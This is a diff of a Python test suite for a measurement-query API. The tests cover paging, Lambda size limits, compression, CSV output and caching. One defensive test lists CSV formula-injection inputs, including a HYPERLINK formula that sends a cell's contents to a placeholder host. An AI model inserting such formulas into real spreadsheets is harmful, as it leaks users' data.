@@ -7,49 +7,28 @@ import io
 import json
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
-from datetime import UTC, date, datetime, time, timedelta
+from datetime import UTC, datetime, timedelta
 from functools import cache
 from random import Random
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
 from uuid import UUID
-from zoneinfo import ZoneInfo
 
 import pytest
 
-from dropzone.domain.gold import (
-    Arrivals,
-    Gaps,
-    Granularity,
-    Kpi,
-    Latency,
-    Place,
-    Pooled,
-    Quality,
-    Standing,
-    Window,
-)
 from dropzone.domain.identifiers import received_at
 from dropzone.domain.outcomes import NO_TAGS
-from dropzone.domain.status import EventStatus, RejectedEvent, State, Status
-from dropzone.ports import (
-    BronzeError,
-    BronzeUnavailableError,
-    ObjectMissingError,
-    RawObject,
-    RowRefusedError,
-    SilverError,
-)
-from dropzone.queries.sources import LastDay, Source, SourcesRequest, SourceState
-from dropzone.query_ports import TooMuchAskedError
+from dropzone.ports import BronzeError, BronzeUnavailableError, ObjectMissingError, RawObject, RowRefusedError
+from dropzone.queries.buckets import MOST_PARTS, Granularity
+from dropzone.queries.ranges import Place
 from dropzone_query import handler as query
 from functional.lambda_calls import Context, api_event, header, json_body
 from functional.test_status_request import ENVIRONMENT
-from support.factories import measurement, raw_id, raw_ids
+from support.factories import raw_id, raw_ids
+from support.reads import Row, Rows
 
 NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
 RAW_ID = UUID("01a20e71-e5a4-700b-bae4-431c79e16819")
-UPDATED = datetime(2026, 11, 24, 16, 44, 36, 201544, tzinfo=UTC)
 
 SPREADSHEET = "text/csv; charset=utf-8; header=present; profile=spreadsheet"
 
@@ -57,108 +36,99 @@ LAMBDA_BYTES = 6_291_556
 """What Lambda lets an answer have, all in all."""
 
 
-def standing(number: int, source: str = "", unit: str = "", tags: Mapping[str, str] = NO_TAGS) -> Standing:
-    told = measurement(NOON - timedelta(seconds=number), mean=float(number), source=source)
-    return Standing(told._replace(unit=unit, tags=tags), RAW_ID, number, UPDATED)
+def standing(number: int, source: str = "", unit: str = "", tags: Mapping[str, str] = NO_TAGS) -> Row:
+    return {
+        "measured_at": NOON - timedelta(seconds=number),
+        "source": source,
+        "mean": float(number),
+        "std_dev": 1.0,
+        "sample_count": 2,
+        "min": 0.0,
+        "max": 2.0,
+        "unit": unit,
+        "tags": tags,
+        "raw_id": RAW_ID,
+        "item": number,
+        "received_at": "2026-11-24T16:44:35.108Z",
+        "updated_at": "2026-11-24T16:44:36.201544+00:00",
+    }
 
 
-def arrivals(**changes: Any) -> Arrivals:  # noqa: ANN401 - any field's
-    values: dict[str, Any] = {"processed": 3, "rejected": 1, "by_rule": {"data.empty": 1}, "latency": Latency(1.5, 9.0)}
-    return Arrivals(**values | changes)
+def event(number: int, of: Row) -> Row:
+    told = {name: value for name, value in of.items() if name not in {"raw_id", "received_at", "updated_at"}}
+    return told | {"item": number, "status": "processed"}
 
 
-POOLED = Pooled(1.0, 0.5, 0.0, 2.0, NOON, NOON + timedelta(seconds=60))
-KPI = Kpi(
-    NOON,
-    NOON + timedelta(hours=1),
-    "a",
-    2,
-    4,
-    POOLED,
-    Gaps(1, 60.0, 30.0, 53.8),
-    arrivals(),
-)
-BARE = Kpi(
-    NOON,
-    NOON + timedelta(hours=1),
-    "b",
-    0,
-    0,
-    None,
-    Gaps(0, None, None, None),
-    arrivals(processed=0, rejected=0, by_rule={}, latency=Latency(None, None)),
-)
+HOUR = {"start": NOON, "end": NOON + timedelta(hours=1)}
+ARRIVALS = {
+    "received": 4,
+    "processed": 3,
+    "rejected": 1,
+    "rejected_share": 0.25,
+    "rejected_by_rule": {"data.empty": 1},
+}
+KPI: Row = {
+    **HOUR,
+    "source": "a",
+    "events": 2,
+    "samples": 4,
+    "mean": 1.0,
+    "std_dev": 0.5,
+    "min": 0.0,
+    "max": 2.0,
+    "first": NOON,
+    "last": NOON + timedelta(seconds=60),
+    "gaps": {"count": 1, "longest_seconds": 60.0, "expected_seconds": 30.0, "longer_than_seconds": 53.8},
+    **ARRIVALS,
+    "latency_ms": {"mean": 1.5, "max": 9.0},
+}
+BARE: Row = {
+    **HOUR,
+    "source": "b",
+    **dict.fromkeys(("events", "samples", "received", "processed", "rejected"), 0),
+    **dict.fromkeys(("mean", "std_dev", "min", "max", "first", "last", "rejected_share")),
+    "gaps": {"count": 0, **dict.fromkeys(("longest_seconds", "expected_seconds", "longer_than_seconds"))},
+    "rejected_by_rule": {},
+    "latency_ms": {"mean": None, "max": None},
+}
+QUALITY: Row = {**HOUR, "source": "a", **ARRIVALS, "latency_ms": {"mean": 2.0, "p50": 1.5, "p95": 8.0, "max": 9.0}}
 
-
-BOILER = Source(
-    "boiler-7", SourceState.LATE, NOON - timedelta(days=3), NOON, NOON + timedelta(seconds=1), 60.0, LastDay(4, 1, 0.25)
-)
-NEVER = Source("boiler-8", SourceState.SILENT, None, None, None, None, LastDay(0, 0, None))
+BOILER: Row = {
+    "source": "boiler-7",
+    "state": "late",
+    "first_measured_at": NOON - timedelta(days=3),
+    "last_measured_at": NOON,
+    "last_received_at": "2026-03-04T12:00:01.000Z",
+    "usual_interval_seconds": 60.0,
+    "last_day": {"received": 4, "rejected": 1, "rejected_share": 0.25},
+}
+NEVER: Row = {
+    "source": "boiler-8",
+    "state": "silent",
+    **dict.fromkeys(("first_measured_at", "last_measured_at", "last_received_at")),
+    "usual_interval_seconds": None,
+    "last_day": {"received": 0, "rejected": 0, "rejected_share": None},
+}
 
 
 @dataclass(slots=True)
-class Data:
+class Data(Rows):
     """Silver, gold and bronze that answer what they are told, and remember what they were asked."""
 
-    standing: list[Standing] = field(default_factory=list)
-    kpi: list[Kpi] = field(default_factory=list)
-    qualities: list[Quality] = field(default_factory=list)
-    sources: list[Source] = field(default_factory=list)
-    objects: dict[UUID, RawObject | BronzeError] = field(default_factory=dict)
-    asked: list[dict[str, Any]] = field(default_factory=list)
-    events: list[EventStatus] = field(default_factory=list)
-    refusal: SilverError | None = None
-    too_much: bool = False
-
-    def status(self, raw_id: UUID, *, after: int, limit: int) -> Status:
-        told = tuple(event for event in self.events if event.item > after)[:limit]
-        counts = {State.PROCESSED: len(self.events)}
-        return Status(
-            raw_id, State.PROCESSED, NOON, settled_at=NOON, items=len(self.events), counts=counts, events=told
-        )
-
-    def rejections(self, **asked: Any) -> list[RejectedEvent]:  # noqa: ANN401
-        self.asked.append(asked)
-        if self.refusal is not None:
-            raise self.refusal
-        return []
-
-    def page(self, *, limit: int, **asked: Any) -> list[Standing]:  # noqa: ANN401 - as the port has it
-        self.asked.append({**asked, "limit": limit})
-        return self.standing[:limit]
-
-    def at(self, instant: datetime, *, limit: int, **asked: Any) -> list[Standing]:  # noqa: ANN401
-        self.asked.append({"at": instant, **asked, "limit": limit})
-        return self.standing[:limit]
-
-    def read_sources(self, request: SourcesRequest) -> list[Source]:
-        self.asked.append({"request": request})
-        return self.sources[: request.limit + 1]
-
-    def knows_zone(self, name: str) -> bool:
-        return name in {"UTC", "Europe/Berlin"}
-
-    def day(self, day: date, tz: str) -> tuple[datetime, datetime]:
-        midnights = (datetime.combine(each, time(), ZoneInfo(tz)) for each in (day, day + timedelta(days=1)))
-        begins, ends = (midnight.astimezone(UTC) for midnight in midnights)
-        return begins, ends
-
-    def kpis(self, window: Window, *, limit: int, **asked: Any) -> list[Kpi]:  # noqa: ANN401
-        self._asked(window, {**asked, "limit": limit})
-        return self.kpi[:limit]
-
-    def quality(self, window: Window, *, limit: int, after: Place | None) -> list[Quality]:
-        self._asked(window, {"after": after, "limit": limit})
-        return self.qualities[:limit]
-
-    def _asked(self, window: Window, others: dict[str, Any]) -> None:
-        if self.too_much:
-            raise TooMuchAskedError
-        self.asked.append({"window": window, **others})
+    raw: dict[UUID, RawObject | BronzeError] = field(default_factory=dict)
 
     def read(self, identifiers: Sequence[UUID], *, timeout: float) -> list[RawObject | BronzeError]:
         assert timeout > 0
-        return [self.objects.get(identifier, ObjectMissingError("gone")) for identifier in identifiers]
+        return [self.raw.get(identifier, ObjectMissingError("gone")) for identifier in identifiers]
+
+    def hold_batch(self, events: Sequence[Row]) -> None:
+        counts = {"processed": len(events), "superseded": 0, "rejected": 0}
+        self.objects = [{"status": "processed", "settled_at": NOON, "items": len(events), "counts": counts}]
+        self.events = events
+
+    def parameters(self, number: int = -1) -> dict[str, Any]:
+        """Those of a read, without its SQL."""
+        return {name: value for name, value in self.asked[number].items() if name != "sql"}
 
 
 Get = Callable[..., dict[str, Any]]
@@ -168,12 +138,10 @@ Get = Callable[..., dict[str, Any]]
 def data(monkeypatch: pytest.MonkeyPatch) -> Data:
     for name, value in ENVIRONMENT.items():
         monkeypatch.setenv(name, value)
-    for made in ("settings", "database"):
-        monkeypatch.setattr(query, made, cache(getattr(query, made).__wrapped__))
+    monkeypatch.setattr(query, "settings", cache(query.settings.__wrapped__))
     data = Data()
-    for made in ("measurements", "gold", "bronze", "statuses"):
+    for made in ("database", "bronze"):
         monkeypatch.setattr(query, made, lambda: data)
-    monkeypatch.setattr(query, "read_sources", lambda _, request: data.read_sources(request))
     return data
 
 
@@ -202,7 +170,7 @@ def refused(answer: dict[str, Any], status: int = 422) -> list[tuple[str, str]]:
 
 
 def test_measurements_with_all_that_is_known_of_them(get: Get, data: Data) -> None:
-    data.standing = [standing(1, "boiler", "°C", {"site": "north"})]
+    data.measurements = [standing(1, "boiler", "°C", {"site": "north"})]
 
     answer = get("/measurements")
 
@@ -227,25 +195,17 @@ def test_measurements_with_all_that_is_known_of_them(get: Get, data: Data) -> No
             }
         ]
     }
-    assert data.asked == [
-        {"since": None, "until": None, "source": None, "after": None, "newest_first": True, "limit": 101}
-    ]
+    assert data.parameters() == {"limit": 101}
+    assert "ORDER BY measured_at DESC, source DESC" in data.asked[0]["sql"]
 
 
 def test_parameters_in_any_form_that_ingest_takes(get: Get, data: Data) -> None:
     parameters = {"from": "2026-03-04 13:00+01", "to": "2026-03-04T12:00:00,5Z", "source": "", "order": "asc"}
     get("/measurements", parameters | {"limit": "1000"})
 
-    assert data.asked == [
-        {
-            "since": NOON,
-            "until": NOON + timedelta(milliseconds=500),
-            "source": "",
-            "after": None,
-            "newest_first": False,
-            "limit": 1001,
-        }
-    ]
+    until = NOON + timedelta(milliseconds=500)
+    assert data.parameters() == {"since": NOON, "until": until, "source": "", "limit": 1001}
+    assert "ORDER BY measured_at ASC, source ASC" in data.asked[0]["sql"]
 
 
 @pytest.mark.parametrize(
@@ -296,11 +256,9 @@ def test_a_space_is_the_plus_that_it_was(get: Get, data: Data, path: str, sent: 
 def range_asked(data: Data) -> tuple[Any, Any]:
     """From when to when, of the last question."""
     asked = data.asked[-1]
-    if "window" in asked:
-        return asked["window"].since, asked["window"].until
-    since, until = asked["since"], asked.get("until", asked.get("before"))
-    return received_at(since) if isinstance(since, UUID) else since, (
-        received_at(until) if isinstance(until, UUID) else until
+    since, until = asked["since"], asked["before" if "before" in asked else "until"]
+    return received_at(UUID(since)) if isinstance(since, str) else since, (
+        received_at(UUID(until)) if isinstance(until, str) else until
     )
 
 
@@ -323,7 +281,7 @@ def test_a_date_alone_is_a_day_of_the_time_zone(
 
 
 def test_a_page_leads_to_the_next(get: Get, data: Data) -> None:
-    data.standing = [standing(number, source="ü") for number in range(5)]
+    data.measurements = [standing(number, source="ü") for number in range(5)]
     parameters = {"limit": "2", "source": "ü", "order": "desc"}
 
     answer = get("/measurements", parameters)
@@ -337,11 +295,11 @@ def test_a_page_leads_to_the_next(get: Get, data: Data) -> None:
     assert relation == 'rel="next"'
     assert following == parameters | {"cursor": body["cursor"]}
     get("/measurements", following)
-    assert data.asked[1]["after"] == (NOON - timedelta(seconds=1), "ü")
+    assert (data.asked[1]["after"], data.asked[1]["after_source"]) == (NOON - timedelta(seconds=1), "ü")
 
 
 def test_the_last_page_leads_nowhere(get: Get, data: Data) -> None:
-    data.standing = [standing(number) for number in range(2)]
+    data.measurements = [standing(number) for number in range(2)]
 
     answer = get("/measurements", {"limit": "2"})
 
@@ -362,7 +320,7 @@ def test_the_last_page_leads_nowhere(get: Get, data: Data) -> None:
 )
 def test_a_cursor_is_a_place(get: Get, data: Data, cursor: str, place: Place) -> None:
     assert get("/measurements", {"cursor": cursor})["statusCode"] == 200
-    assert data.asked[0]["after"] == place
+    assert (data.asked[0]["after"], data.asked[0]["after_source"]) == place
 
 
 LAMBDA_ANSWER_BYTES = 6_291_556
@@ -376,14 +334,14 @@ HEAVY = {f"{number:02}" + "\U0001f600" * 62: "\U0001f600" * 256 for number in ra
 
 @pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
 def test_what_would_not_fit_through_lambda_is_cut_and_goes_on(get: Get, data: Data, accept: str) -> None:
-    data.standing = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
+    data.measurements = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
     read, parameters = [], {"limit": "1000"}
 
     while True:
         answer = get("/measurements", parameters, Accept=accept)
         found = items(answer, accept)
         read += found
-        data.standing = data.standing[len(found) :]
+        data.measurements = data.measurements[len(found) :]
         link = header(answer, "Link")
         if link is None:
             break
@@ -397,7 +355,7 @@ def test_what_would_not_fit_through_lambda_is_cut_and_goes_on(get: Get, data: Da
 @pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
 def test_what_is_compressed_counts_as_it_is_sent(get: Get, data: Data, accept: str) -> None:
     # GIVEN entries that don't fit as they are, and do when they are compressed
-    data.standing = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
+    data.measurements = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
 
     answer = get("/measurements", {"limit": "1000"}, Accept=accept, Accept_Encoding="gzip, br")
 
@@ -409,7 +367,7 @@ def test_what_is_compressed_counts_as_it_is_sent(get: Get, data: Data, accept: s
 def test_what_does_not_fit_even_compressed_is_cut_and_goes_on(get: Get, data: Data) -> None:
     random = Random(3)  # noqa: S311 - no secret
     tags = [{f"{tag:02}": random.randbytes(128).hex() for tag in range(16)} for _ in range(50)]
-    data.standing = [
+    data.measurements = [
         standing(number, random.randbytes(100).hex(), tags=tags[number % 50] | {"x": random.randbytes(9_000).hex()})
         for number in range(1000)
     ]
@@ -421,9 +379,9 @@ def test_what_does_not_fit_even_compressed_is_cut_and_goes_on(get: Get, data: Da
     assert 5_000_000 < len(json.dumps(answer)) < LAMBDA_ANSWER_BYTES - ROOM
     assert [entry["item"] for entry in listed["measurements"]] == list(range(len(listed["measurements"])))
     # The next page goes on behind the last that fitted.
-    last = data.standing[len(listed["measurements"]) - 1].measurement
+    last = data.measurements[len(listed["measurements"]) - 1]
     assert get("/measurements", {"cursor": listed["cursor"]})["statusCode"] == 200
-    assert data.asked[-1]["after"] == (last.measured_at, last.source)
+    assert (data.asked[-1]["after"], data.asked[-1]["after_source"]) == (last["measured_at"], last["source"])
 
 
 def unpacked(answer: dict[str, Any]) -> dict[str, Any]:
@@ -435,9 +393,9 @@ def unpacked(answer: dict[str, Any]) -> dict[str, Any]:
 
 @pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", f"/ingest/{RAW_ID}"])
 def test_compressed_answers_say_the_same_under_the_same_tag(get: Get, data: Data, path: str) -> None:
-    data.standing = [standing(number) for number in range(100)]
-    data.kpi, data.qualities = [KPI] * 100, [Quality(NOON, NOON, "a", arrivals())] * 100
-    data.events = [EventStatus(number, State.PROCESSED, standing(number).measurement) for number in range(100)]
+    data.measurements = [standing(number) for number in range(100)]
+    data.kpis, data.quality = [KPI] * 100, [QUALITY] * 100
+    data.hold_batch([event(number, standing(number)) for number in range(100)])
     parameters = {"to": "2026-03-04T12:00Z"} if path in {"/kpis", "/quality"} else {}
 
     plain, packed = get(path, parameters), get(path, parameters, Accept_Encoding="gzip")
@@ -454,8 +412,8 @@ def test_a_problem_is_small_and_not_compressed(get: Get) -> None:
 
 
 def test_a_batch_s_events_that_would_not_fit_through_lambda_go_on_at_the_cursor(get: Get, data: Data) -> None:
-    heavy = standing(0, "\U0001f600" * 200, tags=HEAVY).measurement
-    data.events = [EventStatus(number, State.PROCESSED, heavy) for number in range(400)]
+    heavy = standing(0, "\U0001f600" * 200, tags=HEAVY)
+    data.hold_batch([event(number, heavy) for number in range(400)])
     read: list[int] = []
     parameters = {"limit": "1000"}
 
@@ -493,8 +451,8 @@ def items(answer: dict[str, Any], accept: str) -> list[int]:
 def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
     get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr("dropzone_query.pages.MOST_BYTES", 10)
-    data.standing = [standing(number) for number in range(3)]
+    monkeypatch.setattr("dropzone.api.pages.MOST_BYTES", 10)
+    data.measurements = [standing(number) for number in range(3)]
 
     assert len(json_body(get("/measurements"))["measurements"]) == 1
 
@@ -526,7 +484,7 @@ def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
     ],
 )
 def test_the_format_is_what_the_client_accepts_best(get: Get, data: Data, accept: str, form: str | None) -> None:
-    data.standing = [standing(0)]
+    data.measurements = [standing(0)]
 
     for path in ("/measurements", "/measurements/2026-03-04T12:00Z", "/kpis", "/quality", "/sources"):
         answer = get(path, Accept=accept)
@@ -544,10 +502,9 @@ LISTS = ["measurements", "kpis", "quality", "sources"]
 
 @pytest.mark.parametrize("name", LISTS)
 def test_csv_and_ndjson_say_the_same_as_json(get: Get, data: Data, name: str) -> None:
-    data.standing = [standing(1, 'a "b", c', "°C", {"k": 'v"'}), standing(2)]
-    data.kpi = [KPI._replace(source='a "b", c'), BARE]
-    latency = Latency(2.0, 9.0, 1.5, 8.0)
-    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "ü\n", arrivals(latency=latency))]
+    data.measurements = [standing(1, 'a "b", c', "°C", {"k": 'v"'}), standing(2)]
+    data.kpis = [{**KPI, "source": 'a "b", c'}, BARE]
+    data.quality = [{**QUALITY, "source": "ü\n"}]
     data.sources = [BOILER, NEVER]
     listed = json_body(get(f"/{name}"))[name]
 
@@ -577,10 +534,10 @@ def flattened(entry: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
 @pytest.mark.parametrize("name", LISTS)
 def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, data: Data, name: str) -> None:
     sources = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1", "@x", "\tx", "\rx", "＝1", "ü=1", "'=1"]
-    data.standing = [standing(-1, source, "-°C") for source in sources]
-    data.kpi = [KPI._replace(source=source, pooled=POOLED._replace(mean=-1.0)) for source in sources]
-    data.qualities = [Quality(NOON, NOON, source, arrivals()) for source in sources]
-    data.sources = [BOILER._replace(source=source) for source in sources]
+    data.measurements = [standing(-1, source, "-°C") for source in sources]
+    data.kpis = [{**KPI, "source": source, "mean": -1.0} for source in sources]
+    data.quality = [{**QUALITY, "source": source} for source in sources]
+    data.sources = [{**BOILER, "source": source} for source in sources]
 
     plain, shown = (get(f"/{name}", Accept=accept) for accept in ("text/csv", "text/csv; profile=spreadsheet"))
 
@@ -599,7 +556,7 @@ def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, dat
 
 
 def test_plain_csv_has_no_mark_and_no_file_name(get: Get, data: Data) -> None:
-    data.standing = [standing(1, "=1")]
+    data.measurements = [standing(1, "=1")]
     answer = get("/measurements", Accept="text/csv")
 
     assert answer["body"].startswith("measured_at,source,mean,")
@@ -624,12 +581,12 @@ def test_no_measurements_are_an_empty_list_in_every_form(get: Get) -> None:
     ],
 )
 def test_the_measurements_of_an_instant(get: Get, data: Data, path: str) -> None:
-    data.standing = [standing(0, "a"), standing(0, "b")]
+    data.measurements = [standing(0, "a"), standing(0, "b")]
 
     body = json_body(get(f"/measurements/{path}"))
 
     assert [entry["source"] for entry in body["measurements"]] == ["a", "b"]
-    assert data.asked == [{"at": NOON, "source": None, "after": None, "limit": 101}]
+    assert data.parameters() == {"instant": NOON, "limit": 101}
 
 
 def test_an_instant_of_which_nothing_is_known(get: Get) -> None:
@@ -645,7 +602,7 @@ def test_what_is_no_instant(get: Get, path: str) -> None:
 
 
 def test_kpis(get: Get, data: Data) -> None:
-    data.kpi = [KPI, BARE]
+    data.kpis = [KPI, BARE]
 
     body = json_body(get("/kpis", {"from": "2026-03-04T12:00Z", "to": "2026-03-04T13:00Z"}))
 
@@ -683,12 +640,18 @@ def test_kpis(get: Get, data: Data) -> None:
             "latency_ms": {"mean": None, "max": None},
         },
     ]
-    window = Window(Granularity.HOUR, NOON, NOON + timedelta(hours=1))
-    assert data.asked == [{"window": window, "expected_seconds": None, "after": None, "limit": 5001}]
+    assert data.parameters() == {
+        "granularity": "hour",
+        "since": NOON,
+        "until": NOON + timedelta(hours=1),
+        **dict.fromkeys(("source", "expected", "after", "after_source")),
+        "tz": "UTC",
+        "limit": 5001,
+    }
 
 
 def test_kpis_as_they_are_asked_for(get: Get, data: Data) -> None:
-    data.kpi = [KPI, BARE]
+    data.kpis = [KPI, BARE]
     parameters = {
         "granularity": "day",
         "from": "2026-03-04T12:00Z",
@@ -702,9 +665,17 @@ def test_kpis_as_they_are_asked_for(get: Get, data: Data) -> None:
     body = json_body(get("/kpis", parameters))
     get("/kpis", parameters | {"cursor": body["cursor"]})
 
-    window = Window(Granularity.DAY, NOON, NOON + timedelta(days=1), "", "Europe/Berlin")
-    asked = {"window": window, "expected_seconds": 1.5, "limit": 2}
-    assert data.asked == [asked | {"after": None}, asked | {"after": (NOON, "a")}]
+    asked = {
+        "granularity": "day",
+        "since": NOON,
+        "until": NOON + timedelta(days=1),
+        "source": "",
+        "tz": "Europe/Berlin",
+        "expected": 1.5,
+        "limit": 2,
+    }
+    assert data.parameters(0) == asked | {"after": None, "after_source": None}
+    assert data.parameters(1) == asked | {"after": NOON, "after_source": "a"}
     assert (body["granularity"], body["tz"], len(body["kpis"])) == ("day", "Europe/Berlin", 1)
 
 
@@ -712,17 +683,16 @@ def test_kpis_as_they_are_asked_for(get: Get, data: Data) -> None:
 def test_without_a_range_the_last_buckets_are_meant(get: Get, data: Data, path: str) -> None:
     for granularity in Granularity:
         get(path, {"granularity": granularity.value})
-        window = data.asked.pop()["window"]
+        asked = data.asked.pop()
 
-        assert abs(window.until - datetime.now(UTC)) < timedelta(minutes=1)
-        assert window.until - window.since == granularity.usual_range
-        assert window.buckets <= granularity.most_buckets
+        assert abs(asked["until"] - datetime.now(UTC)) < timedelta(minutes=1)
+        assert asked["until"] - asked["since"] == granularity.usual_range
 
 
 def test_before_the_first_year_there_is_nothing_to_look_back_to(get: Get, data: Data) -> None:
     get("/kpis", {"to": "0001-01-01T00:00:01Z"})
 
-    assert data.asked[0]["window"].since == datetime.min.replace(tzinfo=UTC)
+    assert data.asked[0]["since"] == datetime.min.replace(tzinfo=UTC)
 
 
 @pytest.mark.parametrize("path", ["/kpis", "/quality"])
@@ -768,13 +738,12 @@ def test_the_longest_ranges(get: Get) -> None:
 
 @pytest.mark.parametrize("path", ["/kpis", "/quality"])
 def test_more_than_is_computed_at_once(get: Get, data: Data, path: str) -> None:
-    data.too_much = True
+    data.parts = MOST_PARTS + 1
     assert refused(get(path)) == [("from", "request.too_much")]
 
 
 def test_quality(get: Get, data: Data) -> None:
-    latency = Latency(2.0, 9.0, 1.5, 8.0)
-    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "a", arrivals(latency=latency))]
+    data.quality = [QUALITY]
 
     body = json_body(get("/quality", {"granularity": "minute", "source": "a"}))
 
@@ -782,7 +751,7 @@ def test_quality(get: Get, data: Data) -> None:
         "quality": [
             {
                 "start": "2026-03-04T12:00:00Z",
-                "end": "2026-03-04T12:01:00Z",
+                "end": "2026-03-04T13:00:00Z",
                 "source": "a",
                 "received": 4,
                 "processed": 3,
@@ -795,7 +764,7 @@ def test_quality(get: Get, data: Data) -> None:
         "granularity": "minute",
         "tz": "UTC",
     }
-    assert data.asked[0]["window"].source == "a"
+    assert data.asked[0]["source"] == "a"
 
 
 # ---- sources ---------------------------------------------------------------------------------------------------------
@@ -824,20 +793,19 @@ def test_sources(get: Get, data: Data) -> None:
             },
         ]
     }
-    assert data.asked == [{"request": SourcesRequest()}]
+    assert data.parameters() == {"prefix": "", "state": None, "after": None, "limit": 101}
 
 
 @pytest.mark.parametrize("name", ["", "ü/1", "a.b"])
 def test_a_page_of_sources_leads_to_the_next(get: Get, data: Data, name: str) -> None:
-    data.sources = [BOILER._replace(source=name), NEVER]
+    data.sources = [{**BOILER, "source": name}, NEVER]
     parameters = {"limit": "1", "state": "silent", "prefix": "b"}
 
     body = json_body(get("/sources", parameters))
 
     assert len(body["sources"]) == 1
     get("/sources", parameters | {"cursor": body["cursor"]})
-    asked = data.asked[1]["request"]
-    assert (asked.prefix, asked.state, asked.limit, asked.cursor) == ("b", SourceState.SILENT, 1, f".{name}")
+    assert data.parameters() == {"prefix": "b", "state": "silent", "after": name, "limit": 2}
 
 
 @pytest.mark.parametrize(
@@ -859,8 +827,8 @@ def test_bad_parameters_of_sources(get: Get, parameters: dict[str, str], broken:
 
 @pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/measurements/2026-03-04T12:00Z"])
 def test_what_the_client_has_is_not_sent_again_until_it_changes(get: Get, data: Data, path: str) -> None:
-    data.standing, data.kpi = [standing(0)], [KPI]
-    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "a", arrivals())]
+    data.measurements, data.kpis = [standing(0)], [KPI]
+    data.quality = [QUALITY]
     parameters = {} if path.startswith("/measurements") else {"to": "2026-03-04T12:00Z"}
     first = get(path, parameters)
     tag = header(first, "ETag")
@@ -875,8 +843,8 @@ def test_what_the_client_has_is_not_sent_again_until_it_changes(get: Get, data: 
         assert header(again, "Cache-Control") == "private, no-cache"
     assert get(path, parameters, If_None_Match='"other"')["statusCode"] == 200
 
-    data.standing, data.kpi = [standing(1)], [BARE]
-    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "b", arrivals())]
+    data.measurements, data.kpis = [standing(1)], [BARE]
+    data.quality = [{**QUALITY, "source": "b"}]
     assert get(path, parameters, If_None_Match=tag)["statusCode"] == 200
 
 
@@ -884,7 +852,7 @@ def test_a_page_of_another_origin_reads_the_headers_and_its_caches_tell_forms_ap
     get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("CORS_ORIGIN", "https://app.example.com")
-    data.standing = [standing(0)]
+    data.measurements = [standing(0)]
 
     answer = get("/measurements")
 
@@ -911,7 +879,7 @@ def test_an_object_comes_as_it_was_received_and_no_browser_shows_it(
     get: Get, data: Data, body: bytes, content_type: str, encoding: str
 ) -> None:
     identifier = raw_id()
-    data.objects[identifier] = RawObject(identifier, body, content_type, "", encoding)
+    data.raw[identifier] = RawObject(identifier, body, content_type, "", encoding)
 
     answer = get(f"/ingest/{identifier}/raw", Accept_Encoding="gzip")
 
@@ -931,7 +899,7 @@ def test_an_object_comes_as_it_was_received_and_no_browser_shows_it(
 
 def test_objects_that_are_not_there_and_a_bronze_that_is_not(get: Get, data: Data) -> None:
     gone, unread = raw_ids(2)
-    data.objects[unread] = BronzeUnavailableError("S3 answered 503")
+    data.raw[unread] = BronzeUnavailableError("S3 answered 503")
 
     assert refused(get(f"/ingest/{gone}/raw"), 404) == []
     assert refused(get(f"/ingest/{gone}/raw", If_None_Match=f'"{gone}"'), 404) == []
